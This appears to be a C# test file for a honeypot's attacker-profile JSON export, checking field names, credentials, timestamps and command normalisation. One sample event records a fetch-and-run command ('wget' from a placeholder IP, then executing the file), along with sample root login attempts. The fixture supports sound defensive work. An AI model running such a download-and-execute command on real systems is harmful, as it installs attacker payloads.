using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Decnet.Engine.Ingest;
using Decnet.Engine.Profiler;
using static Decnet.Tests.Profiler.Events;

namespace Decnet.Tests.Profiler;

public class AttackerJsonTests
{
    private static AttackerProfile Sample() => ProfileUpdater.Apply(null,
    [
        Ev(EventTypes.SessionConnect, 1, decky: "decky-01", service: "ssh") with { Timestamp = T0.AddTicks(1_234_567) },
        Ev(EventTypes.ClientVersion, 2, ssh: "SSH-2.0-Go", hassh: "92674389fa1e47a27ddd8d9b63ecd42b"),
        Ev(EventTypes.LoginFailed, 3, user: "root", password: "пароль"),
        Ev(EventTypes.LoginSuccess, 4, user: "root", password: "admin"),
        Ev(EventTypes.LoginFailed, 4, user: "git"),
        Ev(EventTypes.CommandInput, 5, command: "wget http://1.2.3.4/x && ./x <&2"),
        Ev(EventTypes.FileDownload, 6, url: "http://1.2.3.4/x", sha: "ab"),
        Ev(EventTypes.DirectTcpip, 7, host: "ya.ru", port: 443),
        Ev(EventTypes.HttpRequest, 8, ja3: "j", ua: "Mozilla/5.0 \"quoted\""),
    ]);

    private static readonly string[] RequiredFields =
    [
        "ip", "first_seen", "last_seen", "event_count", "session_count", "sensors", "services", "credentials",
        "successful_logins", "commands", "ssh_versions", "hassh", "ja3", "user_agents", "downloads", "direct_tcpip", "truncated",
    ];

    private static IEnumerable<string> AllPropertyNames(JsonElement e)
    {
        if (e.ValueKind == JsonValueKind.Object)
            foreach (var p in e.EnumerateObject())
            {
                yield return p.Name;
                foreach (var n in AllPropertyNames(p.Value)) yield return n;
            }
        else if (e.ValueKind == JsonValueKind.Array)
            foreach (var item in e.EnumerateArray())
                foreach (var n in AllPropertyNames(item)) yield return n;
    }

    [Test]
    public async Task ShowWritesOneSnakeCaseObject()
    {
        var json = AttackerJson.ToJson(Sample());
        using var doc = JsonDocument.Parse(json);
        var root = doc.RootElement;
        await Assert.That(root.ValueKind).IsEqualTo(JsonValueKind.Object);
        foreach (var field in RequiredFields) await Assert.That(root.TryGetProperty(field, out _)).IsTrue().Because(field);
        foreach (var name in AllPropertyNames(root)) await Assert.That(Regex.IsMatch(name, "^[a-z][a-z0-9_]*$")).IsTrue().Because(name);

        var cred = root.GetProperty("credentials")[0];
        await Assert.That(cred.GetProperty("username").GetString()).IsEqualTo("root");
        await Assert.That(cred.GetProperty("password").GetString()).IsEqualTo("пароль");
        await Assert.That(cred.GetProperty("count").GetInt64()).IsEqualTo(1L);
        await Assert.That(cred.GetProperty("first_seen").GetString()).IsEqualTo("2026-05-01T12:00:03Z");
        await Assert.That(root.GetProperty("credentials")[2].GetProperty("password").ValueKind).IsEqualTo(JsonValueKind.Null);
        await Assert.That(root.GetProperty("first_seen").GetString()).IsEqualTo("2026-05-01T12:00:00.1234567Z");
        await Assert.That(root.GetProperty("commands")[0].GetProperty("normalised").GetString()).IsEqualTo("wget <url> && ./x <&2");
        await Assert.That(root.GetProperty("direct_tcpip")[0].GetProperty("value").GetString()).IsEqualTo("ya.ru:443");
        await Assert.That(root.GetProperty("truncated").GetProperty("credentials").GetInt64()).IsEqualTo(0L);
        // Readable output: no \u escapes for '<' or Cyrillic.
        await Assert.That(json).Contains("<url>");
        await Assert.That(json).Contains("пароль");
    }

    [Test]
    public async Task ListWritesAnArrayAndStreamAndTextWriterAgree()
    {
        var a = Sample();
        var b = a with { Ip = "198.51.100.9", EventCount = 1 };
        var ms = new MemoryStream();
        AttackerJson.WriteList(ms, [a, b]);
        var fromStream = Encoding.UTF8.GetString(ms.ToArray());
        var sw = new StringWriter();
        AttackerJson.WriteList(sw, [a, b]);
        await Assert.That(sw.ToString()).IsEqualTo(fromStream);

        using var doc = JsonDocument.Parse(fromStream);
        await Assert.That(doc.RootElement.GetArrayLength()).IsEqualTo(2);
        await Assert.That(doc.RootElement[1].GetProperty("ip").GetString()).IsEqualTo("198.51.100.9");

        var empty = new StringWriter();
        AttackerJson.WriteList(empty, []);
        await Assert.That(empty.ToString()).IsEqualTo("[]");

        var indented = new MemoryStream();
        AttackerJson.WriteOne(indented, a, indented: true);
        using var again = JsonDocument.Parse(indented.ToArray());
        await Assert.That(again.RootElement.GetProperty("ip").GetString()).IsEqualTo(a.Ip);
    }
}
